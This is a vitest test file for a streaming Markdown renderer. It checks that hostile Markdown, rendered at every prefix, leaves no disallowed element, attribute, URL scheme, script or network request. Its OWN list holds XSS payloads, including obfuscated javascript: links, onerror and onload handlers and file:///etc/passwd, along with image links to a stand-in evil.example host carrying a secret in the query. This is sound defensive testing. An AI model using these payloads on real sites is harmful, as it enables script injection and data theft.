/**
 * Hostile Markdown at every prefix: no element, attribute or address outside the closed table, no script, no request.
 * The cases are public payload lists; without them the suite says so and skips.
 */
import { describe, expect, test } from "vitest";

import { TokenRenderer } from "./token-renderer.ts";

interface XssCase {
  id: number;
  kind: string;
  payload: string;
}

const files = import.meta.glob<{ cases: XssCase[] }>("../../../shared/fixtures/xss/*.json", { import: "default" });
const load = Object.values(files)[0];

const ELEMENTS = new Set(
  "A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL".split(" "),
);
const ATTRIBUTES = new Set(
  "aria-hidden aria-label aria-pressed checked class dir disabled href part rel role scope start tabindex target title type".split(" "),
);
const SCHEMES = new Set(["http:", "https:", "mailto:", "tel:"]);
const CLASSES = /^(?:blocks(?: full)?|bar|caret|code|copy|center|end|host|image|lang|lines|tw|wrap|language-[\w+#.-]+)$/;

/** What is in the tree that must not be. */
function violations(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll("*")) {
    if (!ELEMENTS.has(element.tagName)) found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) found.push(`${name}="${value}"`);
      if (name === "class" && !CLASSES.test(value)) found.push(`class="${value}"`);
    }
    if (element instanceof HTMLAnchorElement && !element.getAttribute("href")?.startsWith("#")) {
      if (!SCHEMES.has(element.protocol)) found.push(element.href);
      if (!/noopener/.test(element.rel)) found.push(`rel of ${element.href}`);
    }
  }
  return found;
}

const OWN = [
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1)) [b](java\tscript:alert(1)) [c](&#106;avascript:alert(1)) [d](javascript&colon;alert(1))",
  "[a](\u0001javascript:alert(1)) [b](<java\u200bscript:alert(1)>) [c](vbscript:x) [d](data:text/html,x) [e](file:///etc/passwd)",
  "<javascript:alert(1)> <data:text/html,x> <a@b.c> <tel:+123>",
  "![x](https://evil.example/?q=secret) ![x][r]\n\n[r]: https://evil.example/p.png",
  "![x](data:image/svg+xml,<svg onload=alert(1)>) ![x](javascript:alert(1))",
  '<img src=x onerror=alert(1)><script>alert(1)</script><svg/onload=alert(1)>\n\n<iframe srcdoc="x">\n<form action=x>\n<style>*{}</style>',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```\n~~~js" onclick=alert(1)\n~~~',
  '[a](https://a.b "\\" onmouseover=alert(1) x=\\"") [b](//evil.example) [c](\\\\evil.example) [__proto__][__proto__] [constructor]',
  "| <img src=x onerror=alert(1)> | [x](javascript:1) |\n|---|:-:|\n| ![a](https://evil.example/x) | `</td><script>` |",
  "1. [a]: javascript:alert(1)\n2. [a]\n\n[a]",
  "[https://bank.example](https://evil.example/login) [bank.example](https://evil.example)",
];

/** Renders a payload in pieces and looks after each. */
function renderPieces(payload: string, size: number): { root: HTMLElement; found: string[] } {
  const root = document.createElement("div");
  document.body.append(root);
  const renderer = new TokenRenderer(root, { caret: true });
  const found: string[] = [];
  for (let at = 0; at < payload.length; at += size) {
    renderer.append(payload.slice(at, at + size));
    renderer.flush();
    found.push(...violations(root));
  }
  renderer.end();
  renderer.flush();
  found.push(...violations(root));
  return { root, found };
}

async function expectHarmless(payloads: readonly { name: string; payload: string }[]): Promise<void> {
  let ran = 0;
  const alert = window.alert;
  window.alert = () => {
    ran++;
  };
  const requests: string[] = [];
  const observer = new PerformanceObserver((list) => {
    for (const entry of list.getEntries())
      if (entry.name.includes("evil") || /\.(?:png|gif|svg|css)/.test(entry.name)) requests.push(entry.name);
  });
  observer.observe({ type: "resource", buffered: false });
  for (const { name, payload } of payloads) {
    // Every prefix of the usual payload; of the few very long ones about 400.
    const { root, found } = renderPieces(payload, Math.ceil(payload.length / 400));
    expect(found, name).toEqual([]);
    for (const element of root.querySelectorAll("a")) element.addEventListener("click", (event) => event.preventDefault());
    for (const element of root.querySelectorAll("a")) element.click();
    root.remove();
  }
  await new Promise((resolve) => setTimeout(resolve, 200));
  observer.disconnect();
  window.alert = alert;
  expect(ran).toBe(0);
  expect(requests).toEqual([]);
}

test("our own cases are harmless at every prefix", async () => {
  await expectHarmless(OWN.map((payload) => ({ name: payload, payload })));
});

describe.skipIf(!load)(load ? "public payload lists" : "public payload lists (skipped: no fixtures beside the project)", () => {
  test("every payload is harmless at every prefix", { timeout: 120_000 }, async () => {
    const cases = (await load?.())?.cases ?? [];
    expect(cases.length).toBeGreaterThan(200);
    await expectHarmless(cases.map(({ id, payload }) => ({ name: `case ${id}`, payload })));
  });
});

test("a label that names another host shows where it leads", () => {
  const { root } = renderPieces(
    "[https://bank.example/login](https://evil.example/x) [docs](https://evil.example) [evil.example](https://www.evil.example/a)",
    5,
  );
  expect([...root.querySelectorAll("a")].map((link) => link.textContent)).toEqual([
    "https://bank.example/login (evil.example)",
    "docs",
    "evil.example",
  ]);
  root.remove();
});

test("an image is requested only after a click", async () => {
  const { root } = renderPieces(`![a cat](${location.origin}/cat.png) ![](https://x.example/y.png)`, 3);
  expect(root.querySelector("img")).toBeNull();
  const button = root.querySelector("button");
  expect(button?.textContent).toBe(`Load image: a cat (${location.host})`);
  button?.click();
  const image = root.querySelector("img");
  expect([image?.getAttribute("src"), image?.alt, image?.referrerPolicy]).toEqual([`${location.origin}/cat.png`, "a cat", "no-referrer"]);
  root.remove();
});

test("only images of listed origins are shown at once", () => {
  const root = document.createElement("div");
  const renderer = new TokenRenderer(root, { imagePolicy: { origins: ["https://img.example.com"] } });
  renderer.append(
    "![a](https://img.example.com/x) ![b](https://img.example.com.evil.example/x) ![c](http://img.example.com/x) ![d](https://img.example.com@evil.example/x) ![e](data:image/png;base64,AA==)",
  );
  renderer.end();
  renderer.flush();
  expect(Array.from(root.querySelectorAll("img"), ({ alt }) => alt)).toEqual(["a"]);
  expect(root.querySelectorAll("button")).toHaveLength(4);
});

test("renders under Trusted Types and a strict policy without a violation", async () => {
  const frame = document.createElement("iframe");
  frame.srcdoc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="default-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'"><body></body>`;
  const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
  document.body.append(frame);
  await loaded;
  const inside = frame.contentDocument;
  if (!inside) throw new Error("no document in the frame");
  const reports: string[] = [];
  inside.addEventListener("securitypolicyviolation", (event) => reports.push(event.violatedDirective));
  for (const payload of OWN) {
    const root = inside.createElement("div");
    inside.body.append(root);
    const renderer = new TokenRenderer(root, { caret: true });
    renderer.append(payload);
    renderer.flush();
    renderer.append("\n\ndone *x*\n");
    renderer.end();
    renderer.flush();
    expect(root.textContent).toContain("done x");
  }
  // The policy is in force: what the renderer never does is refused.
  expect(() => {
    inside.body.innerHTML = "<b>x</b>";
  }).toThrow(/TrustedHTML/);
  await new Promise((resolve) => setTimeout(resolve, 100));
  expect(reports.filter((directive) => directive !== "require-trusted-types-for")).toEqual([]);
  expect(reports.length).toBeLessThanOrEqual(1);
  frame.remove();
});
